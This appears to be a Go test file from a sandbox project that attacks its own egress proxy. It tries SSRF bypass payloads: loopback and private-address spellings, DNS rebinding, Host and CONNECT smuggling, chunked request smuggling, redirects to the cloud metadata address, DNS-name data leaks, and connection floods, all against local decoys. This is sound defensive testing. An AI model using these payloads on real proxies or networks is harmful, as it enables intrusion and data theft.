//go:build linux

package attack

import (
	"context"
	"crypto/tls"
	"fmt"
	"net"
	"net/http"
	"slices"
	"strings"
	"time"

	"github.com/glovebox-dev/glovebox/internal/egress"
	"github.com/glovebox-dev/glovebox/internal/guest/protocol"
)

// egressClass attacks the network policy from a program in a box, with an attacker who also
// controls names and hosts.
func egressClass() class {
	on := func(attack func(context.Context, *netRig) error, allow ...string) func(context.Context, *trial) error {
		return func(ctx context.Context, t *trial) error {
			r, err := t.net(egress.Options{}, slices.Clone(allow)...)
			if err != nil {
				return err
			}
			defer r.close()
			if err := r.works(ctx); err != nil {
				return err
			}
			return attack(ctx, r)
		}
	}
	all := []string{"*.example.net:DECOY", "0.0.0.0/0:DECOY", "::/0:DECOY"}
	return class{
		name: "egress", about: "A program in a box, whose author also controls name servers and allowed hosts, against the network policy.",
		attacks: []Attack{
			{Name: "private-answers", Claim: "an allowed name does not lead to this machine, whatever its addresses are written as", run: on(privateAnswers, all...)},
			{Name: "rebinding", Claim: "a name that changes its addresses between two lookups does not lead to this machine", run: on(rebinding, all...)},
			{Name: "alias-chain", Claim: "aliases of an allowed name, over any number of names of a real name server, do not lead to this machine or a private network", run: aliasChains},
			{Name: "address-forms", Claim: "no spelling of an address reaches this machine, also if all addresses are allowed", run: on(addressForms, all...)},
			{Name: "odd-names", Claim: "no spelling of a name passes for an allowed one, and refused names are not looked up", run: on(oddNames)},
			{Name: "other-host", Claim: "on a connection to an allowed host, no request and no TLS handshake names another", run: on(otherHost)},
			{Name: "connect-smuggling", Claim: "no form of a request to the proxy leads elsewhere than to the host that was decided on", run: on(connectSmuggling)},
			{Name: "request-smuggling", Claim: "an allowed host gets no request that was hidden in the body of another", run: on(requestSmuggling)},
			{Name: "redirect", Claim: "no redirect of an allowed host leads to this machine", run: on(redirected)},
			{Name: "names-in-records", Claim: "refused names write no data of a program into the audit log", run: on(namesInRecords)},
			{Name: "connection-flood", Claim: "a box has 64 connections at most, and the box of another owner still connects", Alone: true, run: on(connectionFlood)},
			{Name: "slow-request", Claim: "a request that is sent byte by byte loses its connection", run: on(slowRequest)},
		},
	}
}

func privateAnswers(ctx context.Context, r *netRig) error {
	for i, answer := range [][]string{
		{"127.0.0.1"}, {"::1"}, {"::ffff:127.0.0.1"}, {"203.0.113.1", "127.0.0.1"}, {"127.0.0.1", "203.0.113.1"}, {"::127.0.0.1"}, {"64:ff9b::7f00:1"}, {"0.0.0.0"}, {"::"},
		{"10.0.0.1"}, {"169.254.169.254"}, {"fe80::1"}, {"2002:7f00:1::1"},
	} {
		name := fmt.Sprintf("a%d.example.net", i)
		r.names.set(name, answer)
		r.tryAll(ctx, name)
	}
	return nil
}

func rebinding(ctx context.Context, r *netRig) error {
	public, private := []string{"203.0.113.1"}, []string{"127.0.0.1"}
	for i, answers := range [][][]string{{public, private}, {private, private}, {public, private}} {
		name := fmt.Sprintf("r%d.example.net", i)
		r.names.set(name, answers...)
		// One door each: a connection to the public address may take until the time-out.
		r.network.Lookup(ctx, name)
		at := fmt.Sprintf("%s:%d", name, r.decoy.port())
		get := "GET /stolen HTTP/1.1\r\nHost: " + at + "\r\nConnection: close\r\n\r\n"
		switch i {
		case 0:
			r.proxy(ctx, "GET http://"+at+"/stolen HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
		case 1:
			r.origin(ctx, name, r.decoy.port(), get)
		default:
			r.socks(ctx, name, r.decoy.port(), get)
		}
		r.checkDecoy("by %q", name)
	}
	return nil
}

func addressForms(ctx context.Context, r *netRig) error {
	for _, host := range []string{
		"127.0.0.1", "[::1]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[::127.0.0.1]", "[64:ff9b::7f00:1]", "[::1%25lo]", "[::1%lo]", "127.1", "127.0.0.1.", "2130706433",
		"0x7f000001", "0x7f.0.0.1", "0177.0.0.1", "127.000.000.001", "0", "0.0.0.0", "[::]", "localhost", "localhost.", "LOCALHOST", "ip6-localhost", "127.0.0.1%00.example.net",
	} {
		r.tryAll(ctx, host)
		if bare := strings.Trim(host, "[]"); bare != host {
			r.socks(ctx, bare, r.decoy.port(), "GET /stolen HTTP/1.1\r\nHost: x\r\n\r\n")
			r.checkDecoy("by %q", bare)
		}
	}
	return nil
}

func oddNames(ctx context.Context, r *netRig) error {
	r.names.mu.Lock()
	r.names.asked = nil
	r.names.mu.Unlock()
	for _, host := range []string{
		"evil.example.net", "good.example.org.evil.example.net", "evil.good.example.org", "evilgood.example.org", "good.example.org\x00.evil.net", "evil.net\x00good.example.org",
		"good.example.org%00evil.net", "good.example.org#.evil.net", "good.example.org?.evil.net", "good.example.org/.evil.net", "good.example.org\\.evil.net", "evil.net#good.example.org",
		"good。example。org", "ｇood.example.org", "xn--good.example.org", "good.example.org..", ".good.example.org", "-good.example.org", "good.example.org:80@evil.net",
		strings.Repeat("a.", 200) + "example.net", strings.Repeat("a", 64) + ".example.net", "*", "*.example.org", "",
	} {
		r.tryAll(ctx, host)
	}
	r.names.mu.Lock()
	defer r.names.mu.Unlock()
	r.t.check(len(r.names.asked) == 0, "the name server was asked for %q", r.names.asked)
	return nil
}

// onlyGood judges the requests that the allowed host got.
func (r *netRig) onlyGood(how string) {
	for _, got := range r.good.take() {
		r.t.check(strings.Contains(got, " "+goodHost+" ") && !strings.Contains(got, "smuggled") || got == "a connection", "%s: the allowed host got %q", how, got)
	}
	r.t.held(1)
	r.checkDecoy("%s", how)
}

func otherHost(ctx context.Context, r *netRig) error {
	for _, head := range []string{
		"GET / HTTP/1.1\r\nHost: evil.example.net", "GET http://evil.example.net/ HTTP/1.1\r\nHost: " + goodHost, "GET / HTTP/1.1\r\nHost: " + goodHost + ":81",
		"GET / HTTP/1.1\r\nHost: " + goodHost + "\r\nHost: evil.example.net", "GET / HTTP/1.1\r\nHost : evil.example.net", "GET / HTTP/1.0",
	} {
		text := head + "\r\nConnection: close\r\n\r\n"
		r.origin(ctx, goodHost, 80, text)
		r.proxy(ctx, "CONNECT "+goodHost+":80 HTTP/1.1\r\nHost: x\r\n\r\n"+text)
		r.socks(ctx, goodHost, 80, text)
		r.onlyGood(fmt.Sprintf("%q", head))
	}
	for _, name := range []string{"evil.example.net", "", goodHost + ".evil.example.net"} {
		c := r.dial(ctx, r.network, protocol.Dial{Door: protocol.DoorTCP, Name: goodHost, Port: 80})
		_ = c.SetDeadline(time.Now().Add(askTimeout)) // cannot fail on an open pipe
		err := tls.Client(c, &tls.Config{ServerName: name, InsecureSkipVerify: true}).HandshakeContext(ctx)
		c.Close()
		// The host, which speaks no TLS, would answer with text.
		r.t.check(err != nil && strings.Contains(err.Error(), "unrecognized name"), "TLS with the server name %q arrived at %s: %v", name, goodHost, err)
	}
	return nil
}

func connectSmuggling(ctx context.Context, r *netRig) error {
	decoy := fmt.Sprintf("127.0.0.1:%d", r.decoy.port())
	name := fmt.Sprintf("evil.example.net:%d", r.decoy.port())
	const end = " HTTP/1.1\r\nHost: " + goodHost + "\r\nConnection: close\r\n\r\n"
	for _, at := range []string{decoy, name} {
		get := "GET http://" + at + "/stolen" + end
		for _, text := range []string{
			get, "CONNECT " + at + end + get, "GET http://" + goodHost + "@" + at + "/" + end, "GET http://" + at + "#@" + goodHost + "/" + end, "GET http://" + goodHost + "\\@" + at + "/" + end,
			"GET //" + at + "/" + end, "GET http:" + at + end, "CONNECT " + goodHost + "@" + at + end + get, "CONNECT http://" + at + end + get, "CONNECT " + at + "/" + goodHost + end + get,
			"CONNECT " + goodHost + ":80\t" + at + end, "CONNECT " + goodHost + ":80 HTTP/1.1\r\nHost: " + at + "\r\n\r\n" + get, "GET http://" + goodHost + "/ HTTP/1.1\r\nHost: " + at + "\r\nConnection: close\r\n\r\n",
			"GET / HTTP/1.1\r\nHost: " + at + "\r\nConnection: close\r\n\r\n", "GET ftp://" + at + "/" + end, "GET https://" + at + "/" + end,
		} {
			r.proxy(ctx, text)
			r.onlyGood(fmt.Sprintf("%.60q", text))
		}
	}
	return nil
}

func requestSmuggling(ctx context.Context, r *netRig) error {
	// As a request of its own, the gate refuses it.
	const hidden = "GET http://evil.example.net/smuggled HTTP/1.1\r\nHost: evil.example.net\r\n\r\n"
	for _, head := range []string{
		"Content-Length: 5\r\nTransfer-Encoding: chunked", "Transfer-Encoding: chunked\r\nContent-Length: 5", "Transfer-Encoding: xchunked", "Transfer-Encoding : chunked", "Transfer-Encoding:\x0bchunked",
		"Content-Length: 5\r\nContent-Length: 500", "Content-Length: +5", "Content-Length: 5, 5", "Transfer-Encoding: chunked, identity", "Connection: Content-Length\r\nContent-Length: 5", "Upgrade: h2c",
	} {
		for _, body := range []string{"0\r\n\r\n" + hidden, "5;\n=x\r\nabcde\r\n0\r\n\r\n" + hidden, "5\nabcde0\n\n" + hidden} {
			r.proxy(ctx, "POST http://"+goodHost+"/a HTTP/1.1\r\nHost: x\r\n"+head+"\r\n\r\n"+body)
			r.origin(ctx, goodHost, 80, "POST /a HTTP/1.1\r\nHost: "+goodHost+"\r\n"+head+"\r\n\r\n"+body)
			r.onlyGood(fmt.Sprintf("%q, %.20q", head, body))
		}
	}
	return nil
}

func redirected(ctx context.Context, r *netRig) error {
	for _, to := range []string{fmt.Sprintf("http://127.0.0.1:%d/stolen", r.decoy.port()), "http://169.254.169.254/latest/meta-data", fmt.Sprintf("//localhost:%d/", r.decoy.port())} {
		for _, status := range []int{301, 302, 303, 307, 308} {
			r.good.serve = func(w http.ResponseWriter, _ *http.Request) {
				w.Header().Set("Location", to)
				w.WriteHeader(status)
			}
			got := r.proxy(ctx, "GET http://"+goodHost+"/ HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
			r.t.check(strings.Contains(got, fmt.Sprint(" ", status, " ")), "a redirect with the status %d came back as %.80q", status, got)
			next := r.proxy(ctx, "GET "+strings.Replace(to, "//localhost", "http://localhost", 1)+" HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
			r.t.check(!strings.Contains(next, " 200 "), "the next request was answered with %.80q", next)
			r.checkDecoy("after a redirect to %s", to)
		}
	}
	return nil
}

func namesInRecords(ctx context.Context, r *netRig) error {
	data := r.t.nonce
	for i := range 20 {
		host := fmt.Sprintf("%s-%d.evil.example.net", data, i)
		r.network.Lookup(ctx, host)
		r.proxy(ctx, "CONNECT "+host+":443 HTTP/1.1\r\nHost: x\r\n\r\n")
		r.proxy(ctx, "CONNECT [fe80::1%25"+data+"]:443 HTTP/1.1\r\nHost: x\r\n\r\n")
		r.socks(ctx, data+"\n"+host, 443, "")
		r.origin(ctx, host, 80, "GET / HTTP/1.1\r\nHost: "+data+"\r\n\r\n")
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	for _, rec := range r.records {
		rec.Box = egress.Box{} // its id is ours
		r.t.check(!strings.Contains(fmt.Sprintf("%+v", rec), data), "the record %+v has data of the program", rec)
	}
	r.t.check(len(r.records) < 20, "%d records of 100 refusals", len(r.records))
	return nil
}

func connectionFlood(ctx context.Context, r *netRig) error {
	const most = 64
	hold := make(chan struct{})
	r.good.serve = func(_ http.ResponseWriter, req *http.Request) {
		select {
		case <-hold:
		case <-req.Context().Done():
		}
	}
	defer close(hold)
	for range 4 * most {
		c := r.dial(ctx, r.network, protocol.Dial{Door: protocol.DoorHTTP})
		_ = c.SetDeadline(time.Now().Add(askTimeout)) // cannot fail on an open pipe
		go func() { fmt.Fprintf(c, "GET http://%s/ HTTP/1.1\r\nHost: x\r\n\r\n", goodHost) }()
	}
	var arrived int
	for until := time.Now().Add(askTimeout / 2); time.Now().Before(until) && ctx.Err() == nil; time.Sleep(10 * time.Millisecond) {
		r.good.mu.Lock()
		arrived = len(r.good.requests)
		r.good.mu.Unlock()
		if arrived > most {
			break
		}
	}
	r.t.check(arrived <= most, "%d connections of one box at a time", arrived)
	other := r.gate.Open(egress.Box{Owner: "bob", ID: "other"})
	c := r.dial(ctx, other, protocol.Dial{Door: protocol.DoorHTTP})
	_ = c.SetDeadline(time.Now().Add(askTimeout)) // likewise
	go func() { fmt.Fprintf(c, "GET http://evil.example.net/ HTTP/1.1\r\nHost: x\r\n\r\n") }()
	status := readStatus(c)
	r.t.check(status == http.StatusForbidden, "the box of another owner got the status %d", status)
	return nil
}

func slowRequest(ctx context.Context, r *netRig) error {
	const bound = 15 * time.Second
	var conns []net.Conn
	for _, d := range []protocol.Dial{{Door: protocol.DoorHTTP}, {Door: protocol.DoorSOCKS}, {Door: protocol.DoorTCP, Name: goodHost, Port: 80}} {
		conns = append(conns, r.dial(ctx, r.network, d))
	}
	ended := make(chan int, len(conns))
	ctx, cancel := context.WithTimeout(ctx, bound)
	defer cancel()
	for i, c := range conns {
		go func() {
			for n := 0; ctx.Err() == nil; n++ {
				text := "GET http://" + goodHost + "/ HTTP/1.1\r\nX: " + strings.Repeat("x", 1000)
				if i == 1 {
					text = "\x05\xff" + strings.Repeat("\x00", 1000)
				}
				_ = c.SetWriteDeadline(time.Now().Add(bound)) // cannot fail on an open pipe
				if _, err := c.Write([]byte{text[n]}); err != nil {
					ended <- i
					return
				}
				time.Sleep(200 * time.Millisecond)
			}
		}()
		go func() { _, _ = c.Read(make([]byte, 1024)) }() // a refusal must not wait for us
	}
	for range conns {
		select {
		case <-ended:
			r.t.held(1)
		case <-ctx.Done():
			r.t.broke("a connection is still open after %v of a request that is sent byte by byte", bound)
			return nil
		}
	}
	return nil
}
